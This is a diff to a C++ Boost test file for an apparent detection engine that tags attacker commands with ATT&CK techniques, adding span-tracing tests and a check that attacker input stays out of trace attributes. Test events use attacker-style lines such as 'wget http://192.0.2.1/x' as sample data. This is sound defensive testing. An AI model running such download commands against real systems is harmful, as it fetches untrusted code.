@@ -5,8 +5,15 @@
 
 #include <boost/asio/co_spawn.hpp>
 
+#include <algorithm>
 #include <fstream>
+#include <iterator>
+#include <map>
+#include <span>
+#include <sstream>
 #include <string>
+#include <string_view>
+#include <variant>
 #include <vector>
 
 using namespace rulehost;
@@ -28,6 +35,50 @@ public:
         co_return;
     }
     std::vector<tag> collected;
+};
+
+/// Remembers spans, with their attributes as text.
+class remembered_spans final : public tracer {
+public:
+    struct span {
+        std::string name;
+        std::uint64_t id = 0;
+        std::uint64_t parent = 0;
+        std::uint64_t trace = 0;
+        std::map<std::string, std::string> attributes;
+    };
+
+    span_id begin(span_id parent) override {
+        ++last_;
+        return {1, parent.is_recorded() ? parent.trace_low : last_, last_};
+    }
+    void end(span_id which, span_id parent, std::string_view name, time_point, time_point,
+             std::span<span_attribute const> attributes) noexcept override {
+        auto& added = ended.emplace_back(std::string(name), which.span, parent.span, which.trace_low);
+        for (auto const& [key, value] : attributes) {
+            auto const as_text = [](auto const& of) {
+                std::ostringstream text;
+                text << of;
+                return text.str();
+            };
+            added.attributes.emplace(key, std::visit(as_text, value));
+        }
+    }
+    std::vector<span> named(std::string_view name) const {
+        std::vector<span> found;
+        std::ranges::copy_if(ended, std::back_inserter(found), [&](span const& each) { return each.name == name; });
+        return found;
+    }
+    span only(std::string_view name) const {
+        auto const found = named(name);
+        BOOST_REQUIRE_MESSAGE(found.size() == 1, found.size() << " spans " << name);
+        return found.front();
+    }
+
+    std::vector<span> ended;
+
+private:
+    std::uint64_t last_ = 0;
 };
 
 event command(std::string id, std::string text = "wget http://192.0.2.1/x") {
@@ -159,6 +210,118 @@ BOOST_AUTO_TEST_CASE(database_keeps_tags_states_and_how_far_files_were_read) {
     BOOST_TEST(run(subject->evaluate(command("c1"))).value().size() == 1u);
     BOOST_TEST(printed.collected.size() == 3u);
     BOOST_TEST(subject->statistics().known_tags == 1u);
+}
+
+BOOST_AUTO_TEST_CASE(database_that_comes_late_is_waited_for_until_it_has_the_rules_of_the_directory) {
+    directory.write("place", "no directory");
+    options.store = "sqlite:" + (directory / "place" / "host.db").string();
+    // Between the attempt to bring the rules there and the one to load them it tells of a snapshot that is none.
+    options.snapshot_file = directory / "snapshot";
+    directory.write("snapshot", "{");
+    directory.write("log", line("c1"));
+    file_input input;
+    input.path = (directory / "log").string();
+    options.inputs.emplace_back(input);
+    bool late = false;
+    options.log = [&](log_level, std::string const& text) {
+        told.push_back(text);
+        if (text.find("snapshot") != text.npos)
+            directory.remove("place");
+        late = late || text.find("snapshot") != text.npos;
+    };
+    start();
+    BOOST_TEST(late);
+    BOOST_TEST(subject->ready());
+    BOOST_TEST(printed.collected.size() == 1u);
+}
+
+BOOST_AUTO_TEST_CASE(decision_is_one_trace_from_the_store_to_its_announcement) {
+    remembered_spans spans;
+    options.trace = &spans;
+    start();
+    rule_state off;
+    off.status = rule_status::disabled;
+    off.reason = "noisy";
+    run(subject->set_state("R1", off, "ops"));
+    wait();
+    auto const change = spans.only("ttp.rule.state.change");
+    auto const written = spans.only("ttp.store.write_state");
+    auto const told_of = spans.only("ttp.rule.publish");
+    BOOST_TEST(change.parent == 0u);
+    BOOST_TEST(change.attributes.at("rule_id") == "R1");
+    BOOST_TEST(written.parent == change.id);
+    BOOST_TEST(told_of.parent == change.id);
+    BOOST_TEST(told_of.trace == change.trace);
+
+    spans.ended.clear();
+    off.confidence_max = 7;
+    off.status = rule_status::clipped;
+    BOOST_CHECK_THROW(run(subject->set_state("R1", off, "ops")), std::exception);
+    run(subject->clear_state("R1", "ops"));
+    wait();
+    BOOST_TEST(spans.named("ttp.rule.state.change").size() == 2u);
+    BOOST_TEST(spans.only("ttp.rule.publish").parent == spans.named("ttp.rule.state.change").back().id);
+    subject->stop();
+    wait();
+    subject.reset(); // before the spans go
+}
+
+BOOST_AUTO_TEST_CASE(change_from_elsewhere_is_a_trace_of_its_own) {
+    remembered_spans spans;
+    options.trace = &spans;
+    start();
+    rule_state off;
+    off.status = rule_status::disabled;
+    off.expires_at = time.now() + std::chrono::minutes{1};
+    run(subject->set_state("R1", off, "ops"));
+    wait();
+    spans.ended.clear();
+    time.advance(std::chrono::minutes{2}); // the clock reverts it
+    auto const change = spans.only("ttp.rule.state.change");
+    BOOST_TEST(change.parent == 0u);
+    BOOST_TEST(change.attributes.at("rule_id") == "R1");
+    BOOST_TEST(spans.only("ttp.rule.publish").parent == change.id);
+    BOOST_TEST(spans.named("ttp.store.write_state").empty());
+    subject->stop();
+    wait();
+    subject.reset();
+}
+
+BOOST_AUTO_TEST_CASE(spans_of_an_event_lead_to_its_stored_tags_and_say_nothing_of_what_was_typed) {
+    remembered_spans spans;
+    options.trace = &spans;
+    options.store = "sqlite:" + (directory / "host.db").string();
+    directory.write("log", line("SECRET-1") + R"({"source_kind":"command","source_id":"c2","attacker_uuid":"SECRET-a",)"
+                               R"("session_id":"SECRET-s","payload":{"command_text":"wget SECRET-x"}})" "\n" "SECRET no JSON\n");
+    file_input input;
+    input.path = (directory / "log").string();
+    options.inputs.emplace_back(input);
+    start();
+    BOOST_TEST(run(subject->evaluate(command("SECRET-3", "wget SECRET-y"))).value().size() == 1u);
+    auto evaluations = spans.named("ttp.eval");
+    std::erase_if(evaluations, [](auto const& each) { return each.attributes.contains("events") && each.attributes.at("events") == "0"; });
+    BOOST_REQUIRE_EQUAL(evaluations.size(), 2u);
+    BOOST_TEST(evaluations[0].attributes.at("events") == "2");
+    BOOST_TEST(evaluations[0].attributes.at("tags") == "2");
+    BOOST_TEST(evaluations[1].attributes.at("source_kind") == "command");
+    auto const fired = spans.named("ttp.rule.fire");
+    BOOST_REQUIRE_EQUAL(fired.size(), 3u);
+    BOOST_TEST(fired[0].parent == evaluations[0].id);
+    BOOST_TEST(fired[2].parent == evaluations[1].id);
+    BOOST_TEST(fired[0].attributes.at("rule_id") == "R1");
+    BOOST_TEST(fired[0].attributes.at("technique_id") == "T1105");
+    auto written = spans.named("ttp.tag.write");
+    std::erase_if(written, [](auto const& each) { return each.attributes.at("tags") == "0"; }); // only how far the input was read
+    BOOST_REQUIRE_EQUAL(written.size(), 2u);
+    BOOST_TEST(written[0].parent == 0u); // many evaluations share one
+    BOOST_TEST(written[0].attributes.at("tags") == "2");
+    for (auto const& span : spans.ended) {
+        for (auto const& [key, value] : span.attributes)
+            BOOST_TEST(value.find("SECRET") == value.npos, span.name << ": " << key << " is " << value);
+    }
+    subject->stop();
+    wait();
+    subject.reset();
 }
 
 BOOST_AUTO_TEST_CASE(rule_change_is_live_and_told) {
